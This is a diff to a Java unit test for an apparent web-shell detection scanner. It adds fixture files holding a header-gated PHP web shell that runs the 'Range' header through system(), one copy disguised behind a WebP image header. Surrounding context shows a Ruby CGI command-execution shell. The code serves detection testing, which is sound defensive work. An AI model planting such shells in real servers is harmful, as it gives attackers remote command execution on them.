@@ -1,6 +1,7 @@
 package bzh.vigie.agent.persistence;
 
 import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertNotEquals;
 
 import java.io.IOException;
 import java.nio.file.Path;
@@ -49,6 +50,22 @@ final class WebScriptsServedTest {
         Trees.write(root, "/srv/www/site/x.rb", "#!/usr/bin/ruby\ncgi = CGI.new\nc = cgi['c']\nputs `#{c}`\n");
         Trees.write(root, "/var/lib/tomcat10/webapps/x.war", "PK");
         assertEquals(21, found().size(), () -> "" + found());
+    }
+
+    /** A drill by others: by the digest that guards it, a page in a picture (RIFF, as WebP begins) is known as one by itself. */
+    @Test
+    void aPageInAPictureTellsTheSameConstants() throws IOException {
+        String page =
+                "<?php $h=getallheaders();if(hash('sha1',$h['If-Range'])==='3a1f2c9d0b7e4f5a68c19d2e3b40f7a1c5d6e8f9')"
+                        + "{system($h['Range']);die;}";
+        Trees.write(root, "/var/www/html/a.php", page);
+        Trees.write(root, "/var/www/html/b.php", "RIFF$0\0\0WEBPVP8 " + page);
+        List<List<String>> observables = Scanned.linux(root, "linux.web.script"::equals).items().stream()
+                .map(item -> item.observables())
+                .toList();
+        assertEquals(2, observables.size());
+        assertEquals(observables.getFirst(), observables.getLast());
+        assertNotEquals(List.of(), observables.getFirst());
     }
 
     /** Zimbra's own server of Java, in which Volexity (2022) found pages (Zimbra wiki, Jetty). */
